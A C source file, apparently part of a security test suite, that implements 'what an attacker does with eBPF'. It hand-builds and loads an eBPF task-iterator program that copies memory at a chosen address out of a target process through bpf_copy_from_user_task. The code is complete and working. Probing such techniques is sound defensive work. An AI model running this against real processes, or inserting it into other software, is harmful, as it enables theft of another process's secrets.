/*
 * What an attacker does with eBPF: a task iterator for one process, whose
 * program copies that process's memory out (bpf_copy_from_user_task) when it is
 * read: one task after another, all of which have this memory. Its
 * instructions are written down here, so that nothing is needed to make them.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/btf.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

#define VMLINUX		"/sys/kernel/btf/vmlinux"
#define ITERATOR	"bpf_iter_task"
#define PIECE		32

/* v5.18: 376040e47334 */
#define HELPER_SEQ_WRITE		127
#define HELPER_COPY_FROM_USER_TASK	191

/* v6.1: f0d74c4da1f0 */
struct task_iterator {
	uint32_t tid;
	uint32_t pid;
	uint32_t pid_fd;
};

static long bpf(int command, union bpf_attr *attr)
{
	long result = syscall(SYS_bpf, command, attr, sizeof(*attr));

	return result < 0 ? -errno : result;
}

/* How many bytes stand behind a type, by its kind (include/uapi/linux/btf.h); -1 if the kind is not known. */
static ssize_t type_tail(uint32_t info)
{
	size_t n = BTF_INFO_VLEN(info);

	switch (BTF_INFO_KIND(info)) {
	case 1:			/* int */
	case 14:		/* var */
	case 17:		/* declaration tag */
		return 4;
	case 3:			/* array */
		return 12;
	case 4:			/* struct */
	case 5:			/* union */
	case 15:		/* section */
	case 19:		/* enum of 64 bits */
		return (ssize_t)(n * 12);
	case 6:			/* enum */
	case 13:		/* prototype */
		return (ssize_t)(n * 8);
	case 2:			/* pointer */
	case 7:			/* forward */
	case 8:			/* typedef */
	case 9:			/* volatile */
	case 10:		/* const */
	case 11:		/* restrict */
	case 12:		/* function */
	case 16:		/* float */
	case 18:		/* type tag */
		return 0;
	}
	return -1;
}

static int find_function(const char *btf, size_t len, const char *name, uint32_t *ret_id)
{
	struct btf_header header;
	const char *at, *end, *names;
	uint32_t id;

	if (len < sizeof(header))
		return -EBADMSG;
	memcpy(&header, btf, sizeof(header));
	if ((uint64_t)header.hdr_len + header.type_off + header.type_len > len ||
	    (uint64_t)header.hdr_len + header.str_off + header.str_len > len || header.str_len == 0)
		return -EBADMSG;
	names = btf + header.hdr_len + header.str_off;
	if (names[header.str_len - 1])
		return -EBADMSG;
	at = btf + header.hdr_len + header.type_off;
	end = at + header.type_len;
	for (id = 1; end - at >= (ssize_t)sizeof(struct btf_type); id++) {
		struct btf_type type;
		ssize_t tail;

		memcpy(&type, at, sizeof(type));
		tail = type_tail(type.info);
		if (tail < 0 || type.name_off >= header.str_len)
			return -EBADMSG;
		if (BTF_INFO_KIND(type.info) == BTF_KIND_FUNC && !strcmp(names + type.name_off, name)) {
			*ret_id = id;
			return 0;
		}
		at += (ssize_t)sizeof(type) + tail;
	}
	return -ENOENT;
}

static int iterator_id(uint32_t *ret)
{
	size_t done = 0, size = 0;
	char *btf = NULL;
	struct stat st;
	int fd, err;

	fd = open(VMLINUX, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	err = fstat(fd, &st) < 0 ? -errno : 0;
	if (!err) {
		size = (size_t)st.st_size;
		btf = malloc(size);
		err = btf ? 0 : -ENOMEM;
	}
	while (!err && done < size) {
		ssize_t n = read(fd, btf + done, size - done);

		if (n > 0)
			done += (size_t)n;
		else
			err = n < 0 ? -errno : -EBADMSG;
	}
	if (!err)
		err = find_function(btf, size, ITERATOR, ret);
	free(btf);
	close(fd);
	return err;
}

#define INSN(c, d, s, o, i)	{ .code = (c), .dst_reg = (d), .src_reg = (s), .off = (o), .imm = (int32_t)(i) }
#define MOVE(d, s)		INSN(BPF_ALU64 | BPF_MOV | BPF_X, d, s, 0, 0)
#define SET(d, i)		INSN(BPF_ALU64 | BPF_MOV | BPF_K, d, 0, 0, i)
#define LOAD(d, s, o)		INSN(BPF_LDX | BPF_MEM | BPF_DW, d, s, o, 0)
#define CALL(helper)		INSN(BPF_JMP | BPF_CALL, 0, 0, 0, helper)

/* struct bpf_iter__task is { meta, task }, and meta begins with the seq_file that is read. */
static int load(uint32_t iterator, uint64_t address)
{
	const struct bpf_insn program[] = {
		MOVE(6, 1),
		LOAD(4, 6, 8),
		INSN(BPF_JMP | BPF_JEQ | BPF_K, 4, 0, 14, 0),
		MOVE(1, 10),
		INSN(BPF_ALU64 | BPF_ADD | BPF_K, 1, 0, 0, -PIECE),
		SET(2, PIECE),
		INSN(BPF_LD | BPF_IMM | BPF_DW, 3, 0, 0, (uint32_t)address),
		INSN(0, 0, 0, 0, address >> 32),
		SET(5, 0),
		CALL(HELPER_COPY_FROM_USER_TASK),
		INSN(BPF_JMP | BPF_JNE | BPF_K, 0, 0, 6, 0),
		LOAD(1, 6, 0),
		LOAD(1, 1, 0),
		MOVE(2, 10),
		INSN(BPF_ALU64 | BPF_ADD | BPF_K, 2, 0, 0, -PIECE),
		SET(3, PIECE),
		CALL(HELPER_SEQ_WRITE),
		SET(0, 0),
		INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
	};
	union bpf_attr attr = { 0 };

	attr.prog_type = BPF_PROG_TYPE_TRACING;
	attr.expected_attach_type = BPF_TRACE_ITER;
	attr.attach_btf_id = iterator;
	attr.prog_flags = BPF_F_SLEEPABLE;
	attr.insns = (uintptr_t)program;
	attr.insn_cnt = sizeof(program) / sizeof(program[0]);
	/* The kernel asks for it: the helper is for such programs only. */
	attr.license = (uintptr_t)"GPL";
	return (int)bpf(BPF_PROG_LOAD, &attr);
}

static int iterate(int program, uint32_t pid, int *ret_link)
{
	/* Before v6.1 the kernel finds more here than it knows, and refuses: never is another process touched. */
	struct task_iterator only = { .pid = pid };
	union bpf_attr attr = { 0 };
	int link, fd;

	attr.link_create.prog_fd = (uint32_t)program;
	attr.link_create.attach_type = BPF_TRACE_ITER;
	attr.link_create.iter_info = (uintptr_t)&only;
	attr.link_create.iter_info_len = sizeof(only);
	link = (int)bpf(BPF_LINK_CREATE, &attr);
	if (link < 0)
		return link;
	memset(&attr, 0, sizeof(attr));
	attr.iter_create.link_fd = (uint32_t)link;
	fd = (int)bpf(BPF_ITER_CREATE, &attr);
	if (fd < 0)
		close(link);
	else
		*ret_link = link;
	return fd;
}

int attack_bpf_copier(uint32_t pid, uint64_t address, uint32_t *ret_fd)
{
	uint32_t iterator = 0;
	int program, fd, link, err;

	err = iterator_id(&iterator);
	if (err)
		return err;
	program = load(iterator, address);
	if (program < 0)
		return program == -EINVAL ? -ENOSYS : program;
	fd = iterate(program, pid, &link);
	close(program);
	if (fd < 0)
		return fd == -EINVAL || fd == -E2BIG ? -ENOSYS : fd;
	/* What is iterated over holds it. */
	close(link);
	*ret_fd = (uint32_t)fd;
	return 0;
}
